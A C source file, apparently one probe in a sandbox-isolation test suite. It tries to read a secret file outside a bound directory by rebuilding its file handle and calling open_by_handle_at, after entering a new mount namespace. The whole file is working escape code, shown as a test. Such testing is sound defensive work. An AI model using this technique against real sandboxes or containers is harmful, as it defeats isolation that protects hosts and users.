/* Opens a host's file by its handle, with the power over namespaces of its own. */
#include "attack.h"

struct handle { struct file_handle head; unsigned char bytes[128]; };

/* A file beside the one whose directory is bound: the handle leads out of the bound part. */
void victim(void) {
    struct handle handle = {.head.handle_bytes = 128};
    int mount_id;
    MAKE(chdir("../shelf"));
    MAKE(mkdir("part", 0777));
    const char *path = secret_file("file");
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) {
        puts("absent: this file system has no handles");
        return;
    }
    char text[300] = "";
    for (unsigned i = 0; i < handle.head.handle_bytes; i++) sprintf(text + 2 * i, "%02x", handle.head.f_handle[i]);
    /* Its name goes: only the handle leads to it. */
    int keep = (int)MAKE(open(path, O_RDONLY));
    (void)keep;
    MAKE(chmod(path, 0));
    ready("%d %s", handle.head.handle_type, text);
    wait_for_end();
}
void attack(int n, char **word) {
    struct handle handle = {0};
    char text[64] = "", path[PATH_MAX];
    (void)n;
    if (geteuid() != 0) take_namespaces(CLONE_NEWNS);
    handle.head.handle_type = atoi(word[0]);
    for (; sscanf(word[1] + 2 * handle.head.handle_bytes, "%2hhx", &handle.head.f_handle[handle.head.handle_bytes]) == 1;)
        handle.head.handle_bytes++;
    snprintf(path, sizeof path, "%s/part", getenv("ESCAPE_SHELF"));
    int at = (int)TRY(open(path, O_RDONLY));
    int fd = (int)TRY(open_by_handle_at(at, &handle.head, O_RDONLY));
    TRY(read(fd, text, sizeof text - 1));
    if (!strcmp(text, SECRET)) reached();
    refused("another file");
}
